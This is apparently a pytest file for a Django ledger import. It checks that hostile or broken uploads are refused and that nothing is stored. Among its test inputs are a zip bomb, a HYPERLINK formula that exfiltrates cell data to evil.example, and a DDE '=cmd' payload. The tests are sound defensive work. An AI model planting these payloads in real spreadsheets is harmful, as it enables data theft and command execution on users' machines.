"""Hostile and broken files: each gets a clear message, and nothing is stored."""

import io
import os
import zipfile

import pytest
from django.urls import reverse
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl import Workbook

from ledger.imports.reading import OLE_MAGIC, SheetRefused, read_table
from ledger.imports.rows import prepare
from ledger.imports.storing import ImportFailed, commit
from ledger.models import Issue, Item
from tests.sheet_files import ledger_rows, upload, xlsx_bytes

pytestmark = pytest.mark.usefixtures("english", "import_dir")


def refused(content, name="整改台账.xlsx"):
    with pytest.raises(SheetRefused) as error:
        read_table(io.BytesIO(content), name)
    return str(error.value.message)


def zip_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ole_file(*stream_names):
    """The start of an OLE2 compound file (what .xls and encrypted .xlsx files are), with the
    UTF-16 directory entry names that tell them apart."""
    header = OLE_MAGIC + b"\x00" * 504
    return header + b"".join(name.encode("utf-16-le") + b"\x00" * 32 for name in stream_names)


def test_a_file_that_is_not_a_spreadsheet():
    assert refused(b"%PDF-1.7\n" + b"x" * 100, "整改台账.pdf") == (
        "This file is not a spreadsheet. Upload an .xlsx file or a .csv file."
    )
    assert refused(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "台账.csv") == (
        "This file is not a spreadsheet. Upload an .xlsx file or a .csv file."
    )


def test_a_zip_that_is_not_a_workbook():
    docx = zip_bytes({"word/document.xml": "<w:document/>", "[Content_Types].xml": "<Types/>"})
    assert refused(docx) == "This file is not an Excel workbook. Upload an .xlsx file or a .csv file."


def test_a_damaged_workbook():
    assert refused(b"PK\x03\x04" + b"\x00" * 200) == (
        "This file is damaged or not a spreadsheet. Upload an .xlsx file or a .csv file."
    )
    broken = zip_bytes({"xl/workbook.xml": "<not a workbook", "[Content_Types].xml": "<Types/>"})
    assert refused(broken).startswith("This workbook could not be read.")


def test_an_old_xls_file():
    assert refused(ole_file("Workbook", "SummaryInformation"), "台账.xls") == (
        "This is an old Excel file (.xls). Open it in Excel or WPS, save it as .xlsx, then upload it."
    )


def encrypted_xlsx(password="台账2026"):
    """A ledger protected by a password as Excel protects it (ECMA-376 agile encryption: an
    OLE2 file holding EncryptionInfo and EncryptedPackage), encrypted by msoffcrypto-tool."""
    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(xlsx_bytes(ledger_rows()))).encrypt(password, encrypted)
    return encrypted.getvalue()


def test_a_password_protected_file():
    assert refused(encrypted_xlsx()) == (
        "The file is protected by a password. Remove the password in Excel or WPS, then upload it."
    )


def test_a_file_of_50_megabytes():
    assert refused(b"PK" + os.urandom(50 * 1024 * 1024)) == (
        "The file is 50 MB; the largest file accepted is 40 MB. Split the ledger."
    )


def test_an_empty_file():
    assert refused(b"", "台账.csv") == "The file is empty."


def test_a_zip_bomb():
    bomb = zip_bytes(
        {"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": b"\x00" * (60 * 1024 * 1024)}
    )
    assert len(bomb) < 1024 * 1024
    assert refused(bomb) == (
        "The file unpacks to far more data than a ledger holds (a “zip bomb”); it was not opened."
    )


def test_100000_rows():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["问题描述", "整改措施"])
    for number in range(100_000):
        sheet.append([number, "措施"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert refused(buffer.getvalue()) == (
        "The file has more than 20000 rows. Split the ledger into smaller files."
    )


def test_a_cell_over_10000_characters():
    rows = ledger_rows(count=2)
    rows[2][4] = "措" * 10_001
    assert refused(xlsx_bytes(rows)) == (
        "Cell E3 holds more than 10000 characters; a ledger cell is never that long."
    )


def test_a_csv_in_an_unknown_encoding():
    assert refused(b"\xff\xff,\xff\xfe\n", "台账.csv").startswith("The CSV file is neither")


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "=1+1"]
)
def test_formulas_are_never_imported(world, formula):
    rows = ledger_rows(count=2)
    rows[2][4] = formula
    table = read_table(io.BytesIO(xlsx_bytes(rows)), "台账.xlsx")
    preview = prepare(table, world.committee, world.branch)
    assert not preview.is_valid
    assert preview.rows[1].errors["measures"] == [
        "This cell holds a formula; formulas are not imported. Paste its value instead."
    ]
    with pytest.raises(ImportFailed):
        commit(preview, world.committee, "台账.xlsx")
    assert not Item.objects.exists()


def test_a_formula_in_a_column_that_is_not_imported_does_no_harm(world):
    rows = ledger_rows(count=2)
    rows[1][0] = "=ROW()-1"  # ledgers often number their rows with a formula
    table = read_table(io.BytesIO(xlsx_bytes(rows)), "台账.xlsx")
    assert prepare(table, world.committee, world.branch).is_valid


@pytest.mark.parametrize(
    "content, name, message",
    [
        (b"%PDF-1.7\n" + b"x" * 100, "台账.pdf", "This file is not a spreadsheet."),
        (encrypted_xlsx(), "台账.xlsx", "The file is protected by a password."),
        (b"PK" + os.urandom(41 * 1024 * 1024), "台账.xlsx", "The file is 41 MB"),
    ],
)
def test_the_upload_page_says_why_and_stores_nothing(client, world, import_dir, content, name, message):
    client.force_login(world.committee)
    response = client.post(
        reverse("ledger:import"), {"file": upload(content, name), "organization": world.branch.pk}
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Item.objects.exists()
    assert not Issue.objects.exists()
    assert not import_dir.exists() or list(import_dir.iterdir()) == []
